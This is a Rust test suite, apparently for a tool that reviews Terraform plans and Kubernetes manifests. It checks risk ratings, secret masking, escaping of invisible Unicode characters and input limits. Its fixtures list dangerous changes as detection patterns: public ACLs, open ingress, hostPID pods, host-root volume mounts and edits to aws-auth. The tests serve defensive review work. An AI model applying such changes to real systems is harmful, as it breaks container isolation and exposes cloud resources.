    let grave = |document: &Document, what: &str| {
        let said = judged(document);
        assert_eq!(
            (said.risk, said.people),
            (Risk::High, 2),
            "{what}: {said:#?}"
        );
    };
    // A policy document is recognized by its shape, whatever the attribute is called, in a text or
    // not, at any depth, in either direction, known or not.
    grave(
        &update(
            "x_y",
            json!({"doc": "{}"}),
            json!({"doc": everybody.to_string()}),
        ),
        "text",
    );
    grave(
        &update(
            "x_y",
            json!({"a": []}),
            json!({"a": [{"b": {"doc": everybody}}]}),
        ),
        "nested",
    );
    grave(
        &update(
            "x_y",
            json!({"doc": everybody.to_string()}),
            json!({"doc": null}),
        ),
        "removed",
    );
    let template = json!({"Resources": {"R": {"Properties": {"PolicyDocument": everybody}}}});
    grave(
        &update(
            "aws_cloudformation_stack",
            json!({"template_body": "{}"}),
            json!({"template_body": template.to_string()}),
        ),
        "template",
    );
    let unknown = json!({"actions": ["update"], "before": {"policy": null}, "after": {}, "after_unknown": {"policy": true}});
    grave(&change("aws_sqs_queue", unknown), "unknown");
    for (attribute, value) in [
        ("acl", json!("public-read")),
        ("access_policies", json!("{\"x\":1}")),
        ("assume_role_policy", json!("x")),
        ("publicly_accessible", json!(true)),
        ("managed_policy_arns", json!(["a"])),
        ("ingress", json!([{"cidr_blocks": ["0.0.0.0/0"]}])),
        ("iam_instance_profile", json!("admin")),
        ("members", json!(["allUsers"])),
        ("permissions_boundary", json!("x")),
    ] {
        grave(
            &update("x_y", json!({"n": 1}), json!({"n": 1, attribute: value})),
            attribute,
        );
    }
    // What is merely called a policy, and tags, are not.
    for (before, after) in [
        (
            json!({"redrive_policy": "{\"maxReceiveCount\":1}"}),
            json!({"redrive_policy": "{\"maxReceiveCount\":2}"}),
        ),
        (json!({"delay": 1}), json!({"delay": 2})),
        (json!({"policy": ""}), json!({"policy": null})),
    ] {
        assert!(
            judged(&update("aws_sqs_queue", before.clone(), after)).risk < Risk::High,
            "{before}"
        );
    }
    let lifecycle = |days: u32| json!({"policy": json!({"rules": [{"days": days}]}).to_string()});
    assert_eq!(
        judged(&update(
            "aws_ecr_lifecycle_policy",
            lifecycle(1),
            lifecycle(2)
        ))
        .risk,
        Risk::Medium
    );
    // A container that breaks its isolation, on any kind; an object that Terraform holds; the map
    // of AWS identities.
    for text in [
        "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {hostPID: yes, containers: []}\n",
        "apiVersion: x/v1\nkind: Job\nmetadata: {name: a}\nspec: {t: {volumes: [{name: v, hostPath: {path: /}}]}}\n",
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: aws-auth, namespace: kube-system}\ndata: {mapRoles: \"[]\"}\n",
    ] {
        grave(&manifests(text).unwrap(), text);
    }
    let role = json!({"manifest": {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": "x"}}});
    let held = change(
        "kubernetes_manifest",
        json!({"actions": ["create"], "before": null, "after": role, "after_unknown": {}}),
    );
    grave(&held, "kubernetes_manifest");
}

#[test]
fn a19_imports_and_moves_alone_are_shown_and_can_be_approved() {
    let document = field("import.json");
    has(
        &document.text(),
        "imported by.id = \"https://sqs.eu-west-1.amazonaws.com/111122223333/shop-orders\"",
    );
    let reading = document.reading(MoreKinds::default());
    assert_eq!((reading.effects.imported, reading.effects.updated), (1, 0));
    assert_eq!(
        reading.effects.to_string(),
        "0 created, 0 updated, 0 replaced, 0 destroyed, 1 imported"
    );
    assert!(
        reading.reach.of::<Arn>().is_whole(),
        "the credential is for what is imported"
    );
    let document = field("moved.json");
    has(&document.text(), "moved from aws_sqs_queue.old");
    assert_eq!(document.reading(MoreKinds::default()).effects.moved, 1);
    let document = field("mixed.json");
    let text = document.text();
    has(&text, "imported by");
    has(&text, "moved from aws_sqs_queue.old");
    has(&text, "~ delay_seconds = 0 -> 5");
    let effects = document.reading(MoreKinds::default()).effects;
    assert_eq!(
        (effects.imported, effects.moved, effects.updated),
        (1, 1, 1)
    );
    // Outputs and what changed outside are taken into the state, too.
    let outputs = json!({"output_changes": {"o": {"actions": ["create"], "before": null, "after": 1, "after_unknown": false}}});
    has(&terraform(&outputs).unwrap().text(), "+ value = 1");
}

// T21: what no eye sees is made visible.
#[test]
fn s02_characters_that_nobody_sees_are_shown() {
    for odd in [
        "\u{ad}",
        "\u{61c}",
        "\u{2028}",
        "\u{3164}",
        "\u{fe0f}",
        "\u{e0041}",
        "\u{180e}",
        "\u{202e}",
        "\u{200b}",
        "\u{115f}",
    ] {
        let text = update(
            "a_b",
            json!({"x": "safe"}),
            json!({"x": format!("sa{odd}fe")}),
        )
        .text();
        lacks(&text, odd);
        has(&text, "\\u{");
        let text = Document::read(PlanFormat::Text, format!("sa{odd}fe").as_bytes())
            .unwrap()
            .text();
        lacks(&text, odd);
    }
}

#[test]
fn s02_what_people_read_has_a_bound_and_a_longer_plan_is_refused() {
    let read = |bytes: usize| Document::read(PlanFormat::Text, "x".repeat(bytes).as_bytes());
    let most = 2 * 1024 * 1024 - 1;
    assert_eq!(read(most).unwrap().text().len(), most + 1);
    has(
        &read(most + 1).unwrap_err().to_string(),
        "more than 2048 KiB",
    );
}

#[test]
fn a16_a_plan_holds_so_many_objects_and_no_more() {
    let list = |count: usize| {
        let item = |place: usize| json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": format!("c{place}")}});
        let items: Vec<Value> = (0..count).map(item).collect();
        manifests(&json!({"apiVersion": "v1", "kind": "List", "items": items}).to_string())
    };
    assert_eq!(
        list(200)
            .unwrap()
            .reading(MoreKinds::default())
            .objects
            .len(),
        200
    );
    has(&list(201).unwrap_err(), "200 objects at most");
}

#[test]
fn s02_comments_in_a_document_that_is_made_are_shown() {
    let script = "#include\n#!/bin/sh\nhost: example.org\nport: 1\n";
    let encoded = "I2luY2x1ZGUKIyEvYmluL3NoCmhvc3Q6IGV4YW1wbGUub3JnCnBvcnQ6IDEK";
    for (actions, before) in [
        (json!(["create"]), Value::Null),
        (json!(["delete", "create"]), json!({"user_data": "x"})),
    ] {
        for data in [
            json!(script),
            json!(encoded),
            json!([{"in": script}]),
            json!(json!({"in": script}).to_string()),
        ] {
            let text = change(
                "aws_instance",
                json!({"actions": actions, "before": before, "after": {"user_data": data}}),
            )
            .text();
            has(&text, "#include");
            has(&text, "#!/bin/sh");
        }
    }

    let hidden = change(
        "a_b",
        json!({"actions": ["create"], "before": null, "after": {
            "password": "hunter2hunter2",
            "masked": "# hunter2hunter2 opens\nhost: example.org\n",
            "object": "# not shown\nkind: Secret\nstringData:\n  pin: \"4711\"\n",
        }, "after_sensitive": {"password": true}}),
    );
    let text = hidden.text();
    has(&text, "# (sensitive) opens");
    has(&text, "+ object = (sensitive)");
    lacks(&text, "hunter2");
    lacks(&text, "4711");
    let named = format!("{:?}", hidden.reading(MoreKinds::default()).sensitive);
    has(&named, "masked");
    has(&named, "object");
}

#[test]
fn a04_lines_that_start_with_three_hyphens_are_separators_as_kubectl_has_them() {
    let object =
        |name: &str| format!("apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: {name}}}\n");
    for separator in ["---", "---  ", "---#x:", "--- # x", "---\t# x", "---\t"] {
        let text = format!("{}{separator}\n{}", object("a"), object("b"));
        let document = manifests(&text).unwrap_or_else(|error| panic!("{separator}: {error}"));
        assert_eq!(
            document.reading(MoreKinds::default()).objects.len(),
            2,
            "{separator}"
        );
    }
    for line in ["---x: 1", "----", "---\tx: 1", "-----BEGIN"] {
        let error = manifests(&format!("{}{line}\n{}", object("a"), object("b"))).unwrap_err();
        has(&error, "line 4: ");
        has(&error, "begins with `---`");
    }
    let content = "--- {apiVersion: v1, kind: ConfigMap, metadata: {name: a}}\n";
    assert_eq!(
        manifests(content)
            .unwrap()
            .reading(MoreKinds::default())
            .objects
            .len(),
        1
    );
    has(&manifests("--- {a: b}\n").unwrap_err(), "line 1: ");
}

#[test]
fn a03_one_long_secret_leaves_no_other_secret_unmasked() {
    let long = format!("a{}", "b".repeat(600 * 1024));
    let text = change(
        "a_b",
        json!({"actions": ["create"], "before": null, "after": {
            "long": long,
            "password": "hunter2hunter2",
            "again": "the password is hunter2hunter2",
        }, "after_sensitive": {"long": true, "password": true}}),
    )
    .text();
    has(&text, "the password is (sensitive)");
    lacks(&text, "hunter2");

    // Of more secrets than are followed, texts that are long enough to repeat one are hidden.
    let each = |range: std::ops::Range<u32>| range.map(|it| format!("secret-{it:010}"));
    let many: Vec<String> = each(0..12_000).collect();
    let again: Vec<String> = each(11_990..12_000).map(|it| format!("is {it}")).collect();
    let text = change(
        "a_b",
        json!({"actions": ["create"], "before": null,
            "after": {"many": many, "again": again, "short": "is here"},
            "after_sensitive": {"many": true}}),
    )
    .text();
    lacks(&text, "secret-");
    has(&text, "is here");
}

#[test]
fn s02_numbers_that_no_double_holds_differ_by_each_digit() {
    let plan = |before: &str, after: &str| {
        let change = format!(
            r#"{{"actions":["update"],"before":{{"m":1,"n":{before}}},"after":{{"m":2,"n":{after}}},"after_unknown":{{}}}}"#
        );
        let plan = format!(
            r#"{{"format_version":"1.2","configuration":{{"root_module":{{}}}},"resource_changes":[{{"address":"a_b.c","type":"a_b","change":{change}}}]}}"#
        );
        Document::read(PlanFormat::TerraformJson, plan.as_bytes())
            .unwrap()
            .text()
    };
    for (before, after) in [
        ("123456789012345678901", "123456789012345678902"),
        ("-123456789012345678901", "-123456789012345678902"),
        ("0.30000000000000001", "0.30000000000000002"),
        ("9007199254740993.5", "9007199254740992.5"),
        ("1e400", "1e401"),
        ("1e-400", "1e-401"),
    ] {
        let text = plan(before, after);
        has(&text, before);
        has(&text, after);
        // In a text, beside what differs too.
        let json = |number: &str, other: u32| {
            Value::from(format!("{{\"a\":{number},\"b\":{other}}}")).to_string()
        };
        let text = plan(&json(before, 1), &json(after, 2));
        has(&text, before);
        has(&text, after);
        let texts = plan(&json(before, 1), &json(before, 2));
        lacks(&texts, before);
    }
}

#[test]
fn a04_what_is_null_in_a_manifest_is_shown() {
    let text = manifests(
        "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: d, annotations: {keep: null}}\nspec:\n  replicas: null\n  \
         template: {spec: {securityContext: ~, containers: [{name: c, securityContext: }, null]}}\n  ingress: [null]\n",
    )
    .unwrap()
    .text();
    for line in [
        "metadata.annotations.keep = null",
        "spec.replicas = null",
        "spec.template.spec.securityContext = null",
        "securityContext: null",
        "spec.template.spec.containers[1] = null",
        "spec.ingress[0] = null",
    ] {
        has(&text, line);
    }
    // In a document within a text, too.
    let text = update(
        "a_b",
        json!({"d": "{\"a\":1}"}),
        json!({"d": "{\"a\":2,\"b\":null}"}),
    )
    .text();
    has(&text, "+ d{json}.b = null");
}

#[test]
fn s02_letters_from_right_to_left_and_odd_spaces_are_escaped() {
    for odd in [
        "\u{5d0}",
        "\u{627}",
        "\u{661}",
        "\u{700}",
        "\u{7c0}",
        "\u{fb1d}",
        "\u{fe70}",
        "\u{10800}",
        "\u{1e900}",
        "\u{1eec7}",
        "\u{a0}",
        "\u{1680}",
        "\u{2003}",
        "\u{202f}",
        "\u{205f}",
        "\u{3000}",
        "\u{85}",
    ] {
        let escaped = odd.escape_unicode().to_string();
        let key = format!("k{odd}");
        let document = update(
            "a_b",
            json!({"d": format!("a{odd}b")}),
            json!({"d": format!("b{odd}a"), key: 1}),
        );
        lacks(&document.text(), odd);
        has(
            &document.text(),
            &format!("\"a{escaped}b\" -> \"b{escaped}a\""),
        );
        let text = manifests(&format!(
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: c}}\ndata: {{x: \"a{odd}b\"}}\n"
        ));
        if let Ok(document) = text {
            lacks(&document.text(), odd);
        }
        lacks(
            &Document::read(PlanFormat::Text, odd.as_bytes())
                .unwrap()
                .text(),
            odd,
        );
    }
    has(
        &update("a_b", json!({"d": "für"}), json!({"d": "日本"})).text(),
        "\"für\" -> \"日本\"",
    );
}

#[test]
fn a09_an_address_that_is_not_of_its_type_is_refused() {
    let read = |address: &str, kind: &str, mode: &str| {
        let actions = if mode == "data" { "read" } else { "create" };
        terraform(&json!({"resource_changes": [
            {"address": address, "type": kind, "mode": mode,
                "change": {"actions": [actions], "before": null, "after": {"n": 1}, "after_unknown": {}}},
            {"address": "a_b.other", "type": "a_b", "change": {"actions": ["create"], "before": null, "after": {"n": 1}}}]}))
    };
    for (address, kind, mode) in [
        ("aws_s3_object.readme", "aws_iam_role_policy", "managed"),
        (
            "module.aws_iam_role_policy.aws_s3_object.x",
            "aws_iam_role_policy",
            "managed",
        ),
        (
            "aws_s3_object.aws_iam_role_policy",
            "aws_iam_role_policy",
            "managed",
        ),
        (
            "aws_s3_object.x[\"aws_iam_role_policy.y\"]",
            "aws_iam_role_policy",
            "managed",
        ),
        ("data.aws_region.x", "external", "data"),
        ("aws_sqs_queue", "aws_sqs_queue", "managed"),
        ("aws_sqs_queue.", "aws_sqs_queue", "managed"),
        ("", "", "managed"),
    ] {
        has(
            &read(address, kind, mode).unwrap_err(),
            "is no address of a",
        );
    }
    for (address, kind, mode) in [
        ("aws_sqs_queue.q", "aws_sqs_queue", "managed"),
        (
            "module.m[\"a.b\"].module.n[0].aws_sqs_queue.q[\"x.y\"]",
            "aws_sqs_queue",
            "managed",
        ),
        ("module.m.data.aws_region.x[0]", "aws_region", "data"),
    ] {
        read(address, kind, mode).unwrap();
    }
    // What nothing becomes of has no other values afterwards.
    let refused = |change: Value| {
        terraform(&json!({"resource_changes": [{"address": "a_b.c", "type": "a_b", "change": change},
            {"address": "a_b.d", "type": "a_b", "change": {"actions": ["create"], "before": null, "after": {"n": 1}}}]}))
        .unwrap_err()
    };
    has(
        &refused(
            json!({"actions": ["no-op"], "before": {"policy": "p"}, "after": {"policy": "q"}}),
        ),
        "its values before and after differ",
    );
}

#[test]
fn a_risk_reasons_that_are_left_out_are_counted_and_sentences_keep_their_end() {
    let many = |count: usize| {
        let each = (0..count).map(|place| {
            json!({"address": format!("aws_x.a{place:03}"), "type": "aws_x",
                "change": {"actions": ["create"], "before": null, "after": {"policy": "p"}, "after_unknown": {}}})
        });
        judged(&terraform(&json!({"resource_changes": each.collect::<Vec<_>>()})).unwrap())
    };
    let said = many(60);
    assert_eq!(said.reasons.len(), 51);
    assert_eq!(said.reasons.last().unwrap(), "and 10 more");
    assert_eq!(many(50).reasons.len(), 50);
    // A long address takes no sentence its end.
    let address = format!("aws_x.it[\"{}\"]", "k".repeat(600));
    let said = judged(
        &terraform(&json!({"resource_changes": [{"address": address, "type": "aws_x",
            "change": {"actions": ["create"], "before": null, "after": {"policy": "p"}, "after_unknown": {}}}]}))
        .unwrap(),
    );
    let reasons = said.reasons.join("\n");
    has(&reasons, "high: aws_x.it[");
    has(&reasons, ": policy says who may do what");
}
